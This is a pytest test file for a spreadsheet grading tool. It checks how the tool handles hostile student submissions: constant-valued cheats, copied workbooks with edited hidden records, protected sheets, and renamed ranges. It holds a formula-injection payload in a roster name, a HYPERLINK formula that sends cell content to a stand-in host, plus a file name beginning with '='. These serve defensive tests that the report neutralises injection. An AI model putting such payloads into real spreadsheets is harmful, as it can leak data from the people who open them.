"""A class graded end to end in LibreOffice with the submissions a real class and a hostile student
hand in (issue 17): LMS file names, duplicates, copies (with the hidden record edited), cheats
that turn every input and blank into a constant or an error, protected sheets, a tampered
record, a 250-byte file name, formula injection through the roster and file names; and an Adam
exercise whose t and eps must follow the second reading."""
from __future__ import annotations

import csv
import os
import shutil
import zipfile
from pathlib import Path

import pytest

from classroom_fill import correct_formulas, fill, layout_of
from gradsheet.classroom import exercise as ex
from gradsheet.classroom.grade import grade

BLANK8 = ["h", "Loss", "Loss_W", "Loss_B", "grad_W", "grad_B", "next_W", "next_B"]
INPUTS = ["x", "y", "W", "B", "lr", "eps", "dLoss_dW", "dLoss_dB", "prevLoss"]
HYPERLINK = '=HYPERLINK("http://x.example/"&A1,"click")'
IDS = [f"202410{i:02d}" for i in range(1, 18)]
NAMES = ["송하준", "김철수", "이영희", "박민수", "최지우", "정하늘", "강바다", "윤가람", "임솔", "한결", "오나래",
         "서보라", "조은별", "신동해", HYPERLINK, "백두리", "문채원"]


def cells(doc, name):
    rng = doc.model.NamedRanges.getByName(name).getReferredCells()
    a = rng.getRangeAddress()
    return [rng.getCellByPosition(c, r) for r in range(a.EndRow - a.StartRow + 1)
            for c in range(a.EndColumn - a.StartColumn + 1)]


def as_constants(names, plus: str = ""):
    """Every cell of `names` becomes a formula of its own value (=1916.76…, or =1916.76+0 with
    `plus`): it shows the same and follows nothing."""
    def edit(doc):
        doc.model.calculateAll()
        for name in names:
            for cell in cells(doc, name):
                cell.setFormula(f"={cell.getValue()!r}{plus}")
    return edit


def formulas_in(assignments: dict):
    def edit(doc):
        for name, text in assignments.items():
            for cell in cells(doc, name):
                cell.setFormula(text) if text.startswith("=") else cell.setString(text)
    return edit


def record(changes: dict):
    """Edit the hidden settings sheet: key -> the text in column B (JSON, as the exercise writes)."""
    def edit(doc):
        sheet = doc.model.Sheets.getByName("gradsheet")
        for r in range(60):
            key = sheet.getCellByPosition(0, r).getString()
            if key in changes:
                sheet.getCellByPosition(1, r).setString(changes[key])
    return edit


def protect(password: str):
    def edit(doc):
        doc.model.Sheets.getByName("학습").protect(password)
    return edit


def bend_names(doc):
    """W now names a 2×2 block far from its cell; lr's name is gone."""
    import uno
    names = doc.model.NamedRanges
    names.removeByName("W")
    names.removeByName("lr")
    names.addNewByName("W", "$'학습'.$A$1:$B$2", uno.createUnoStruct("com.sun.star.table.CellAddress"), 0)


def both(*edits):
    def edit(doc):
        for e in edits:
            e(doc)
    return edit


def report(path: Path) -> tuple[list[str], list[list[str]]]:
    rows = list(csv.reader(path.read_bytes().decode("utf-8-sig").splitlines()))
    return rows[0], rows[1:]


@pytest.fixture(scope="module")
def graded(tmp_path_factory, libreoffice):
    tmp = tmp_path_factory.mktemp("hostile")
    roster = tmp / "roster.csv"
    with open(roster, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "name"])
        w.writerows(zip(IDS, NAMES))
    e = ex.make_exercise(None, roster, tmp / "week3")
    L = layout_of(6, 1)
    right = correct_formulas(L)
    sub = tmp / "sub"
    sub.mkdir()
    src = lambda i: e.folder / f"{IDS[i - 1]}.xlsx"  # noqa: E731
    put = lambda i, name, formulas=right, edit=None: fill(libreoffice, src(i), sub / name, formulas, L,  # noqa: E731
                                                        before_save=edit)
    put(1, "20241001_송하준_3주차과제.xlsx")  # as an LMS renames it
    put(2, "20241002.xlsx", edit=as_constants(INPUTS + BLANK8))  # every input and blank a constant
    put(3, "20241003.xlsx", {name: ["=NA()"] * len(right[name]) for name in BLANK8},
        formulas_in({"W": "=NA()", "B": "=NA()"}))
    put(4, "20241004.xlsx", dict(right, h=[f.replace("+B", "-B") for f in right["h"]]))  # the older file
    put(4, "20241004 (1).xlsx")  # the newer one, right
    os.utime(sub / "20241004.xlsx", (1e9, 1e9))
    put(6, "20241005.xlsx")  # 20241005 hands in 20241006's workbook
    put(8, "20241007.xlsx", edit=record({"student": '"20241007"'}))  # a copy with its record edited
    put(8, "20241008.xlsx")
    put(9, "20241009.xlsx", edit=protect(""))  # protected without a password: graded
    put(10, "20241010.xlsx", edit=protect("secret"))
    put(11, "20241011.xlsx", edit=record({"lang": '["en"]', "generator": '"gradsheet"', "title": "[1, 2]"}))
    put(12, "가" * 80 + ".xlsx")  # 245 bytes
    near = dict(right, grad_B=["=2/ROWS(y)*SUMPRODUCT(h-y)"], grad_W=["=(Loss_W-Loss)/0.0001"])
    put(13, "20241013.xlsx", near, as_constants(["Loss"], "+0"))  # =<its right value>+0
    put(14, "20241014.xlsx", edit=formulas_in({"lr": "abc", "W": "=0.5"}))
    put(16, "20241016.xlsx", edit=bend_names)
    (sub / "=HYPERLINK(1) notes.pdf").write_text("not a workbook")
    run = grade([sub], e.folder, tmp / "report.csv", lo=libreoffice)
    return run, tmp, e, sub, libreoffice


def rows_by_id(run) -> dict:
    return {r.id: r for r in run.rows if r.id}


def test_every_roster_student_gets_one_row_and_unknown_files_their_own(graded):
    run, tmp, e, sub, _ = graded
    head, rows = report(tmp / "report.csv")
    assert [r[0] for r in rows[:len(IDS)]] == IDS  # the roster's order, once each
    assert len(rows) == len(IDS) + 1
    assert rows[-1][:6] == ["", "", "'=HYPERLINK(1) notes.pdf", "0", "8",
                            "명단에 없습니다; 워크북이 아닙니다 (.xlsx 또는 .ods여야 하는데 '.pdf'입니다)"]
    feedback = sorted(p.name for p in (tmp / "report-feedback").iterdir())
    assert feedback == sorted([f"{i}.txt" for i in IDS] + ["unmatched-1.txt"])


def test_an_lms_file_name_is_matched_by_its_record_and_name(graded):
    r = rows_by_id(graded[0])["20241001"]
    assert (r.file, r.score, r.status) == ("20241001_송하준_3주차과제.xlsx", 8, "ok")


def test_inputs_turned_constant_and_blanks_typed_as_their_values_score_nothing(graded):
    r = rows_by_id(graded[0])["20241002"]
    assert r.marks == {name: "constant" for name in BLANK8} and r.score == 0
    assert r.status == f"입력 칸에 수식이 있습니다: {', '.join(INPUTS)} (채점할 때 그 위에 숫자를 넣었습니다)"


def test_na_in_the_inputs_and_every_blank_is_no_knock_on_excuse(graded):
    r = rows_by_id(graded[0])["20241003"]
    assert r.marks == {name: "error" for name in BLANK8} and r.score == 0
    assert r.status == "입력 칸이 수가 아닙니다: W, B (채점할 때 그 위에 숫자를 넣었습니다)"


def test_a_second_file_the_newest_graded_both_listed(graded):
    r = rows_by_id(graded[0])["20241004"]
    assert (r.file, r.score) == ("20241004 (1).xlsx", 8)
    assert r.status == ("파일 2개를 냈습니다. 가장 최근 것(20241004 (1).xlsx)을 채점했습니다. "
                        "다른 파일: 20241004.xlsx 7/8점")


def test_a_copy_is_flagged_on_both_rows_by_its_numbers_and_never_praised(graded):
    run, tmp = graded[0], graded[1]
    rows = rows_by_id(run)
    assert rows["20241005"].status == "20241006의 워크북을 냈습니다 (숫자가 20241006의 것입니다)"
    assert rows["20241005"].score == 8 and rows["20241005"].copy_of == "20241006"
    assert rows["20241006"].status == "제출하지 않았습니다; 이 학생의 워크북을 20241005도 냈습니다"
    # the record edited to the student who handed it in: the numbers still say whose it is
    assert rows["20241007"].status == ("20241008의 워크북을 냈습니다 (숫자가 20241008의 것입니다); "
                                       "숨은 기록이 바뀌었습니다 (20241007라고 적혀 있습니다)")
    assert rows["20241008"].status == "이 학생의 워크북을 20241007도 냈습니다"
    note = (tmp / "report-feedback" / "20241007.txt").read_text(encoding="utf-8")
    assert "잘했습니다" not in note and "이 워크북은 20241008에게 만들어 준 것입니다" in note
    assert "잘했습니다" in (tmp / "report-feedback" / "20241008.txt").read_text(encoding="utf-8")


def test_protection_without_a_password_is_graded_with_one_a_clear_status(graded):
    rows = rows_by_id(graded[0])
    assert (rows["20241009"].score, rows["20241009"].status) == (8, "ok")
    assert rows["20241010"].status == "채점하지 못했습니다: 학습 시트가 암호로 보호되어 있습니다. 암호 없이 다시 내게 하세요"
    assert rows["20241010"].marks == {}


def test_a_tampered_record_and_a_250_byte_file_name_grade_and_get_feedback(graded):
    run, tmp = graded[0], graded[1]
    rows = rows_by_id(run)
    assert (rows["20241011"].score, rows["20241011"].status) == (8, "ok")
    assert (tmp / "report-feedback" / "20241011.txt").read_text(encoding="utf-8").startswith(
        "20241011 오나래 — 20241011.xlsx: 8/8점")  # the key's language, not the record's
    assert (rows["20241012"].file, rows["20241012"].score) == ("가" * 80 + ".xlsx", 8)
    assert (tmp / "report-feedback" / "20241012.txt").read_text(encoding="utf-8").startswith(
        "20241012 서보라 — " + "가" * 80)


def test_a_formula_of_constants_is_constant_and_near_misses_are_wrong(graded):
    """=<Loss>+0 follows nothing: constant. The exact slope where the forward difference belongs
    is 1e-4 off: wrong (the tolerance is rounding's, far below). eps typed into the formula is
    right only for the workbook's own eps."""
    r = rows_by_id(graded[0])["20241013"]
    assert r.marks == dict(zip(BLANK8, ["ok", "constant", "ok", "ok", "wrong", "wrong", "ok", "ok"]))
    assert "지금 숫자에서는 맞지만" in r.notes["grad_W"]


def test_an_input_that_is_text_or_a_formula_is_a_finding_not_a_loss(graded):
    r = rows_by_id(graded[0])["20241014"]
    assert r.score == 8
    assert r.status == ("입력 칸에 수식이 있습니다: W (채점할 때 그 위에 숫자를 넣었습니다); "
                        "입력 칸이 수가 아닙니다: lr (채점할 때 그 위에 숫자를 넣었습니다)")


def test_bent_names_are_graded_where_the_exercise_put_them(graded):
    """A name bent out of shape or deleted: the grader reads and types at the exercise's place,
    and says so; the formulas that used the names show what they show."""
    r = rows_by_id(graded[0])["20241016"]
    assert r.status == "사라진 이름: W, lr (원래 자리에서 채점했습니다)"
    assert r.marks["h"] == "error" and r.marks["grad_W"] == "ok"  # W*x over a 2×2 W: #VALUE!


def test_no_cell_of_the_report_opens_as_a_formula(graded):
    """The roster's =HYPERLINK(…) name and a file named =HYPERLINK(1) … open as text in
    LibreOffice, with formula evaluation on (as Excel does)."""
    run, tmp, _, _, lo = graded
    from libreoffice import _props, import_uno
    uno = import_uno()
    head, rows = report(tmp / "report.csv")
    assert next(r for r in rows if r[0] == "20241015")[1] == "'" + HYPERLINK
    doc = lo.desktop.loadComponentFromURL(
        uno.systemPathToFileUrl(str(tmp / "report.csv")), "_blank", 0,
        _props(Hidden=True, FilterName="Text - txt - csv (StarCalc)",
               FilterOptions="44,34,76,1,,0,false,true,false,false,false,-1,true"))
    try:
        sheet = doc.Sheets.getByIndex(0)
        kinds = [[sheet.getCellByPosition(c, r).getType().value for c in range(len(head))]
                 for r in range(len(rows) + 1)]
        assert sheet.getCellByPosition(1, 15).getString() == "'" + HYPERLINK  # the row of 20241015
    finally:
        doc.close(True)
    assert not any(k == "FORMULA" for row in kinds for k in row)
    for path in (tmp / "report-feedback").iterdir():
        first = path.read_text(encoding="utf-8").splitlines()[0]
        assert first[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_a_zip_of_the_downloads_grades_the_same(graded):
    """The same files in a zip (in a folder, as LMS downloads come): the same marks and statuses,
    the file column naming the zip."""
    run, tmp, e, sub, lo = graded
    zpath = tmp / "downloads.zip"
    with zipfile.ZipFile(zpath, "w") as z:
        for f in sorted(sub.iterdir()):
            z.write(f, f"week3/{f.name}")
    again = grade([zpath], e.folder, tmp / "zipped.csv", lo=lo)
    same = lambda rows: [(r.id, r.score, r.marks, r.status.replace("downloads.zip/week3/", ""))  # noqa: E731
                         for r in rows]
    assert same(again.rows)[:-1] == same(run.rows)[:-1]
    assert again.rows[0].file == "downloads.zip/week3/20241001_송하준_3주차과제.xlsx"


def test_adams_t_and_eps_follow_the_second_reading(tmp_path, libreoffice):
    """(1-beta1^1) where (1-beta1^(t+1)) belongs is right only while t = 0, and eps typed into a
    slope only for the workbook's eps: the second reading changes both and catches them."""
    (tmp_path / "r.csv").write_text("id\nA\nB\nC\n", encoding="utf-8")
    e = ex.make_exercise(None, tmp_path / "r.csv", tmp_path / "ex", optimizer="adam")
    L = layout_of(6, 1, "ko", "adam")
    right = correct_formulas(L)
    sub = tmp_path / "sub"
    sub.mkdir()
    fill(libreoffice, e.folder / "A.xlsx", sub / "A.xlsx", right, L)
    fill(libreoffice, e.folder / "B.xlsx", sub / "B.xlsx",
         dict(right, next_W=[right["next_W"][0].replace("beta1^(t+1)", "beta1^1")]), L)
    fill(libreoffice, e.folder / "C.xlsx", sub / "C.xlsx", dict(right, grad_B=["=(Loss_B-Loss)/0.0001"]), L)
    run = grade([sub], e.folder, tmp_path / "report.csv", lo=libreoffice)
    rows = rows_by_id(run)
    assert rows["A"].score == 8
    assert rows["B"].marks["next_W"] == "wrong" and rows["B"].score == 7
    assert rows["C"].marks["grad_B"] == "wrong" and rows["C"].score == 7
    shutil.rmtree(tmp_path / "ex")
